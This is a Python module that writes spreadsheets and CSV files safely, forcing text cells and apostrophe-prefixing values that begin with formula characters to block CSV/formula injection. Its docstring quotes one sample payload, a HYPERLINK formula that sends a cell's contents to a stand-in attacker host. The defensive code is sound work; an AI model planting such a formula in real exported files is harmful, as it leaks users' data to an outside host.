"""One writer for every spreadsheet and CSV file made for people to open: no cell of ours runs as a formula.

Names, addresses and program names come from forms and uploads, so one of them can be
`=HYPERLINK("http://evil.example/?"&A1,"klik")`. openpyxl stores a string starting with "=" as a formula,
and Excel or LibreOffice run a CSV field starting with = + - @ tab or CR (OWASP, "CSV injection"). So:

- XLSX (`Spreadsheet`, `Sheet.append`): every text value is written as a text cell, never a formula, and text
  starting with one of those characters also gets Excel's quote prefix, so it stays text when a user edits
  the cell. The value itself is unchanged: the signed decree annex keeps what was typed, and files the app
  reads back (the registration template, the XLSForm) read the same.
- CSV (`CsvWriter`): text starting with one of those characters gets a leading apostrophe (the OWASP rule);
  numbers (int, float, Decimal) are written as they are, so -1.5 stays a number.

Exchange files for programs (registry exchange format, decree package, linkage files) are data, not
spreadsheets, and are written verbatim; `tests/security/test_formula_injection.py` lists them.
"""

import csv
import io

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """Whether a spreadsheet could read this value as a formula: text starting with = + - @ tab or CR."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_field(value):
    """Return a CSV field that no spreadsheet runs: formula-like text gets a leading apostrophe."""
    if value is None:
        return ""
    return "'" + value if is_formula_like(value) else value


def from_csv_field(value: str) -> str:
    """Undo `csv_field` for a CSV of ours read back (to copy it into a workbook, which keeps text as text)."""
    return value[1:] if value.startswith("'") and is_formula_like(value[1:]) else value


class CsvWriter:
    """`csv.writer` whose every field goes through `csv_field`; `writerow` returns what the file's write does."""

    def __init__(self, fh, **options):
        self._writer = csv.writer(fh, **options)

    def writerow(self, row):
        return self._writer.writerow([csv_field(v) for v in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def _cell(sheet, value):
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value)  # a detached cell; `append` gives it its place (any kind of sheet)
    cell.data_type = "s"  # openpyxl makes "=..." a formula; a text cell is shown, never run
    if is_formula_like(value):
        cell.quotePrefix = True
    return cell


class Sheet:
    """A worksheet whose `append` writes text as text; any other attribute is the openpyxl sheet's."""

    def __init__(self, sheet):
        object.__setattr__(self, "_sheet", sheet)

    def append(self, row) -> None:
        self._sheet.append([_cell(self._sheet, v) for v in row])

    def __getattr__(self, name):
        return getattr(self._sheet, name)

    def __getitem__(self, key):  # sheet["A1"], to style a cell
        return self._sheet[key]

    def __setattr__(self, name, value):
        setattr(self._sheet, name, value)


class Spreadsheet:
    """An XLSX workbook for people: streamed (openpyxl write-only), or not, to style cells and add drop-downs."""

    def __init__(self, *, streamed: bool = True):
        self.book = Workbook(write_only=streamed)
        if not streamed:
            self.book.remove(self.book.active)  # sheets come only from `sheet()`, so every one is a `Sheet`

    def sheet(self, title: str) -> Sheet:
        return Sheet(self.book.create_sheet(title))

    def save(self, target) -> None:
        self.book.save(target)

    def to_bytes(self) -> bytes:
        out = io.BytesIO()
        self.book.save(out)
        return out.getvalue()
